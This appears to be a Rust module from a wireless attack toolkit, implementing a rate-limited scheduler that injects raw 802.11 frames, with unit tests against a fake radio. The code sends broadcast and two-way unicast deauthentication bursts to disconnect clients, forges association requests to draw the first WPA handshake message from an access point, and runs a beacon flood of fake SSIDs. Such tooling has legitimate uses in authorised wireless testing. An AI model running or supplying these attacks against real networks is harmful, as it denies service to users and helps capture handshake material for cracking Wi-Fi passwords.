//! Rate-limited frame injection
//!
//! Deauthentication and association requests are guarded by "time of last
//! send" cooldowns; a call inside the window is reported as throttled and
//! nothing is queued. State only advances when every frame of a call was
//! transmitted.

use std::time::Duration;

use serde::Serialize;
use tracing::{debug, info, warn};

use crate::config::AttackConfig;
use crate::error::EngineError;
use crate::forge::{self, ForgeError, MAX_BEACON_LEN, MAX_FRAME_LEN};
use crate::ie::MAX_SSID_LEN;
use crate::mac::MacAddr;
use crate::radio::{valid_channel, Radio};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackOutcome {
    Sent { frames: usize },
    Throttled { retry_in: Duration },
}

impl AttackOutcome {
    pub fn is_sent(&self) -> bool {
        matches!(self, AttackOutcome::Sent { .. })
    }
}

/// Running beacon flood.
#[derive(Debug, Clone)]
pub struct BeaconFlood {
    pub channel: u8,
    pub ssids: Vec<String>,
    pub index: usize,
    pub interval_ms: u64,
    pub sent: u64,
    started_ms: u64,
    last_sent_ms: Option<u64>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FloodSummary {
    pub channel: u8,
    pub ssids: usize,
    pub beacons_sent: u64,
    pub duration_ms: u64,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct AttackCounters {
    pub deauth_frames: u64,
    pub assoc_requests: u64,
    pub beacons: u64,
    pub throttled: u64,
}

#[derive(Debug)]
pub struct AttackScheduler {
    config: AttackConfig,
    last_deauth_ms: Option<u64>,
    last_assoc_ms: Option<u64>,
    seq: u16,
    flood: Option<BeaconFlood>,
    counters: AttackCounters,
}

impl AttackScheduler {
    pub fn new(config: AttackConfig) -> Self {
        Self {
            config,
            last_deauth_ms: None,
            last_assoc_ms: None,
            seq: 0,
            flood: None,
            counters: AttackCounters::default(),
        }
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    pub fn counters(&self) -> AttackCounters {
        self.counters
    }

    pub fn flood(&self) -> Option<&BeaconFlood> {
        self.flood.as_ref()
    }

    pub fn flood_active(&self) -> bool {
        self.flood.is_some()
    }

    /// Deauthenticates every client of `ap` with a burst of broadcast frames.
    pub fn deauth_broadcast<R: Radio>(
        &mut self,
        radio: &mut R,
        ap: MacAddr,
        reason: u16,
        now_ms: u64,
    ) -> Result<AttackOutcome, EngineError> {
        if let Some(retry_in) = self.deauth_cooldown(now_ms) {
            return Ok(self.throttled("deauth", retry_in));
        }

        let burst = self.config.deauth_burst.max(1);
        let frames: Vec<(MacAddr, MacAddr)> = vec![(MacAddr::BROADCAST, ap); burst];
        self.send_deauths(radio, ap, &frames, reason)?;

        self.last_deauth_ms = Some(now_ms);
        info!("Deauth burst: {} frames broadcast from {}", burst, ap);
        Ok(AttackOutcome::Sent { frames: burst })
    }

    /// Deauthenticates `target` from `ap` in both directions.
    pub fn deauth_unicast<R: Radio>(
        &mut self,
        radio: &mut R,
        target: MacAddr,
        ap: MacAddr,
        reason: u16,
        now_ms: u64,
    ) -> Result<AttackOutcome, EngineError> {
        if let Some(retry_in) = self.deauth_cooldown(now_ms) {
            return Ok(self.throttled("deauth", retry_in));
        }

        let frames = [(target, ap), (ap, target)];
        self.send_deauths(radio, ap, &frames, reason)?;

        self.last_deauth_ms = Some(now_ms);
        info!("Deauth sent: {} <-> {} (reason {})", target, ap, reason);
        Ok(AttackOutcome::Sent { frames: frames.len() })
    }

    /// Forged association request from `sta`, asking `ap` for an M1.
    pub fn association_request<R: Radio>(
        &mut self,
        radio: &mut R,
        ap: MacAddr,
        sta: MacAddr,
        ssid: &str,
        now_ms: u64,
    ) -> Result<AttackOutcome, EngineError> {
        if let Some(retry_in) = cooldown_left(self.last_assoc_ms, self.config.assoc_cooldown_ms, now_ms)
        {
            return Ok(self.throttled("association request", retry_in));
        }

        let mut buf = [0u8; MAX_FRAME_LEN];
        let len = forge::association_request(&mut buf, ap, sta, ssid.as_bytes(), self.seq)?;
        radio.transmit_raw(&buf[..len])?;

        self.advance_seq(1);
        self.last_assoc_ms = Some(now_ms);
        self.counters.assoc_requests += 1;
        info!("Association request {} -> {} ({})", sta, ap, ssid);
        Ok(AttackOutcome::Sent { frames: 1 })
    }

    /// Stops promiscuous receive, pins the radio to `channel` and arms the flood.
    /// If the channel switch fails, receive is turned back on and the radio
    /// stays where it was.
    pub fn start_flood<R: Radio>(
        &mut self,
        radio: &mut R,
        channel: u8,
        ssids: Vec<String>,
        now_ms: u64,
    ) -> Result<(), EngineError> {
        if let Some(flood) = &self.flood {
            return Err(EngineError::FloodActive(flood.channel));
        }
        if !valid_channel(channel) {
            return Err(EngineError::InvalidChannel(channel));
        }
        if ssids.is_empty() {
            return Err(EngineError::NoSsids);
        }
        if let Some(long) = ssids.iter().find(|s| s.len() > MAX_SSID_LEN) {
            return Err(ForgeError::SsidTooLong(long.len()).into());
        }

        radio.set_promiscuous(false)?;
        if let Err(e) = radio.set_channel(channel) {
            warn!("Beacon flood not started, channel {} refused: {}", channel, e);
            radio.set_promiscuous(true)?;
            return Err(e.into());
        }

        info!(
            "Beacon flood started on channel {} with {} SSIDs every {} ms",
            channel,
            ssids.len(),
            self.config.beacon_interval_ms
        );
        self.flood = Some(BeaconFlood {
            channel,
            ssids,
            index: 0,
            interval_ms: self.config.beacon_interval_ms,
            sent: 0,
            started_ms: now_ms,
            last_sent_ms: None,
        });
        Ok(())
    }

    /// Sends at most one beacon if the flood is due. Returns the number sent.
    pub fn tick<R: Radio>(&mut self, radio: &mut R, now_ms: u64) -> Result<usize, EngineError> {
        let Some(flood) = self.flood.as_mut() else {
            return Ok(0);
        };
        if let Some(last) = flood.last_sent_ms {
            if now_ms.saturating_sub(last) < flood.interval_ms {
                return Ok(0);
            }
        }

        let ssid = &flood.ssids[flood.index];
        let timestamp_us = now_ms.saturating_sub(flood.started_ms).saturating_mul(1000);
        let mut buf = [0u8; MAX_BEACON_LEN];
        let len = forge::beacon(&mut buf, ssid.as_bytes(), flood.channel, timestamp_us, self.seq)?;
        radio.transmit_raw(&buf[..len])?;

        flood.index = (flood.index + 1) % flood.ssids.len();
        flood.sent += 1;
        flood.last_sent_ms = Some(now_ms);
        if flood.sent % 1000 == 0 {
            debug!("Beacon flood: {} beacons sent", flood.sent);
        }
        self.counters.beacons += 1;
        self.advance_seq(1);
        Ok(1)
    }

    /// Stops the flood and gives promiscuous receive back. A no-op when idle.
    pub fn stop_flood<R: Radio>(
        &mut self,
        radio: &mut R,
        now_ms: u64,
    ) -> Result<Option<FloodSummary>, EngineError> {
        if self.flood.is_none() {
            return Ok(None);
        }
        radio.set_promiscuous(true)?;

        let Some(flood) = self.flood.take() else {
            return Ok(None);
        };
        let summary = FloodSummary {
            channel: flood.channel,
            ssids: flood.ssids.len(),
            beacons_sent: flood.sent,
            duration_ms: now_ms.saturating_sub(flood.started_ms),
        };
        info!(
            "Beacon flood stopped: {} beacons, {} SSIDs, {} ms",
            summary.beacons_sent, summary.ssids, summary.duration_ms
        );
        Ok(Some(summary))
    }

    pub fn reset(&mut self) {
        self.last_deauth_ms = None;
        self.last_assoc_ms = None;
        self.counters = AttackCounters::default();
    }

    fn deauth_cooldown(&self, now_ms: u64) -> Option<Duration> {
        cooldown_left(self.last_deauth_ms, self.config.deauth_cooldown_ms, now_ms)
    }

    fn throttled(&mut self, what: &str, retry_in: Duration) -> AttackOutcome {
        self.counters.throttled += 1;
        warn!("Rate limited: {} retry in {} ms", what, retry_in.as_millis());
        AttackOutcome::Throttled { retry_in }
    }

    /// Builds every frame first, then transmits; the first failure aborts
    /// without touching cooldowns.
    fn send_deauths<R: Radio>(
        &mut self,
        radio: &mut R,
        bssid: MacAddr,
        pairs: &[(MacAddr, MacAddr)],
        reason: u16,
    ) -> Result<(), EngineError> {
        let mut frames = Vec::with_capacity(pairs.len());
        for (i, (dest, src)) in pairs.iter().enumerate() {
            let mut buf = [0u8; forge::DEAUTH_LEN];
            forge::deauth(&mut buf, *dest, *src, bssid, reason, self.seq.wrapping_add(i as u16))?;
            frames.push(buf);
        }
        for frame in &frames {
            radio.transmit_raw(frame)?;
        }
        self.advance_seq(frames.len());
        self.counters.deauth_frames += frames.len() as u64;
        Ok(())
    }

    fn advance_seq(&mut self, n: usize) {
        self.seq = (self.seq.wrapping_add(n as u16)) & 0x0fff;
    }
}

fn cooldown_left(last: Option<u64>, cooldown_ms: u64, now_ms: u64) -> Option<Duration> {
    let last = last?;
    let elapsed = now_ms.saturating_sub(last);
    (elapsed < cooldown_ms).then(|| Duration::from_millis(cooldown_ms - elapsed))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::radio::RadioError;

    #[derive(Default)]
    struct FakeRadio {
        sent: Vec<Vec<u8>>,
        channel: u8,
        promiscuous: bool,
        fail_after: Option<usize>,
        refuse_channel: bool,
    }

    impl Radio for FakeRadio {
        fn set_promiscuous(&mut self, enabled: bool) -> Result<(), RadioError> {
            self.promiscuous = enabled;
            Ok(())
        }

        fn set_channel(&mut self, channel: u8) -> Result<(), RadioError> {
            if self.refuse_channel {
                return Err(RadioError::Driver("device busy".into()));
            }
            self.channel = channel;
            Ok(())
        }

        fn transmit_raw(&mut self, frame: &[u8]) -> Result<(), RadioError> {
            if self.fail_after.is_some_and(|n| self.sent.len() >= n) {
                return Err(RadioError::Driver("tx queue full".into()));
            }
            self.sent.push(frame.to_vec());
            Ok(())
        }
    }

    const AP: MacAddr = MacAddr::new([0x10, 0x22, 0x33, 0x44, 0x55, 0x66]);
    const STA: MacAddr = MacAddr::new([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff]);

    #[test]
    fn test_deauth_cooldown() {
        let mut radio = FakeRadio::default();
        let mut sched = AttackScheduler::new(AttackConfig::default());

        let first = sched.deauth_unicast(&mut radio, STA, AP, 7, 1000).unwrap();
        assert_eq!(first, AttackOutcome::Sent { frames: 2 });
        let second = sched.deauth_unicast(&mut radio, STA, AP, 7, 1040).unwrap();
        assert_eq!(
            second,
            AttackOutcome::Throttled {
                retry_in: Duration::from_millis(60)
            }
        );
        assert_eq!(radio.sent.len(), 2);

        // broadcast shares the same cooldown
        let third = sched.deauth_broadcast(&mut radio, AP, 7, 1099).unwrap();
        assert!(!third.is_sent());
        let fourth = sched.deauth_broadcast(&mut radio, AP, 7, 1100).unwrap();
        assert_eq!(fourth, AttackOutcome::Sent { frames: 5 });
        assert_eq!(radio.sent.len(), 7);
        assert_eq!(sched.counters().throttled, 2);
    }

    #[test]
    fn test_unicast_both_directions() {
        let mut radio = FakeRadio::default();
        let mut sched = AttackScheduler::new(AttackConfig::default());
        sched.deauth_unicast(&mut radio, STA, AP, 1, 0).unwrap();
        assert_eq!(&radio.sent[0][4..10], STA.octets());
        assert_eq!(&radio.sent[0][10..16], AP.octets());
        assert_eq!(&radio.sent[1][4..10], AP.octets());
        assert_eq!(&radio.sent[1][10..16], STA.octets());
        assert_eq!(&radio.sent[1][16..22], AP.octets());
    }

    #[test]
    fn test_transmit_failure_leaves_cooldown() {
        let mut radio = FakeRadio {
            fail_after: Some(1),
            ..Default::default()
        };
        let mut sched = AttackScheduler::new(AttackConfig::default());
        assert!(sched.deauth_unicast(&mut radio, STA, AP, 1, 0).is_err());

        radio.fail_after = None;
        let retry = sched.deauth_unicast(&mut radio, STA, AP, 1, 10).unwrap();
        assert!(retry.is_sent());
        assert_eq!(sched.counters().deauth_frames, 2);
    }

    #[test]
    fn test_association_cooldown() {
        let mut radio = FakeRadio::default();
        let mut sched = AttackScheduler::new(AttackConfig::default());
        assert!(sched.association_request(&mut radio, AP, STA, "lab", 0).unwrap().is_sent());
        assert!(!sched.association_request(&mut radio, AP, STA, "lab", 499).unwrap().is_sent());
        // deauth has its own cooldown
        assert!(sched.deauth_unicast(&mut radio, STA, AP, 1, 1).unwrap().is_sent());
        assert!(sched.association_request(&mut radio, AP, STA, "lab", 500).unwrap().is_sent());
    }

    #[test]
    fn test_flood_cycles_and_stops() {
        let mut radio = FakeRadio {
            promiscuous: true,
            ..Default::default()
        };
        let mut sched = AttackScheduler::new(AttackConfig {
            beacon_interval_ms: 10,
            ..Default::default()
        });
        let ssids = vec!["one".to_string(), "two".to_string()];
        sched.start_flood(&mut radio, 6, ssids, 0).unwrap();
        assert_eq!(radio.channel, 6);
        assert!(!radio.promiscuous);

        assert_eq!(sched.tick(&mut radio, 0).unwrap(), 1);
        assert_eq!(sched.tick(&mut radio, 5).unwrap(), 0);
        assert_eq!(sched.tick(&mut radio, 10).unwrap(), 1);
        assert_eq!(sched.tick(&mut radio, 20).unwrap(), 1);
        assert_eq!(radio.sent.len(), 3);
        assert_eq!(&radio.sent[0][38..41], b"one");
        assert_eq!(&radio.sent[1][38..41], b"two");
        assert_eq!(&radio.sent[2][38..41], b"one");

        let summary = sched.stop_flood(&mut radio, 25).unwrap().unwrap();
        assert_eq!(summary.beacons_sent, 3);
        assert_eq!(summary.duration_ms, 25);
        assert!(radio.promiscuous);
        assert!(sched.stop_flood(&mut radio, 30).unwrap().is_none());
        assert_eq!(sched.tick(&mut radio, 100).unwrap(), 0);
    }

    #[test]
    fn test_flood_channel_failure_restores_receive() {
        let mut radio = FakeRadio {
            channel: 3,
            promiscuous: true,
            refuse_channel: true,
            ..Default::default()
        };
        let mut sched = AttackScheduler::new(AttackConfig::default());
        let err = sched.start_flood(&mut radio, 11, vec!["a".into()], 0);
        assert!(matches!(err, Err(EngineError::Radio(_))));
        assert!(!sched.flood_active());
        assert!(radio.promiscuous);
        assert_eq!(radio.channel, 3);
    }

    #[test]
    fn test_flood_validation() {
        let mut radio = FakeRadio::default();
        let mut sched = AttackScheduler::new(AttackConfig::default());
        assert!(matches!(
            sched.start_flood(&mut radio, 14, vec!["a".into()], 0),
            Err(EngineError::InvalidChannel(14))
        ));
        assert!(matches!(
            sched.start_flood(&mut radio, 1, vec![], 0),
            Err(EngineError::NoSsids)
        ));
        assert!(matches!(
            sched.start_flood(&mut radio, 1, vec!["x".repeat(33)], 0),
            Err(EngineError::Forge(ForgeError::SsidTooLong(33)))
        ));
        sched.start_flood(&mut radio, 1, vec!["a".into()], 0).unwrap();
        assert!(matches!(
            sched.start_flood(&mut radio, 2, vec!["a".into()], 0),
            Err(EngineError::FloodActive(1))
        ));
    }
}
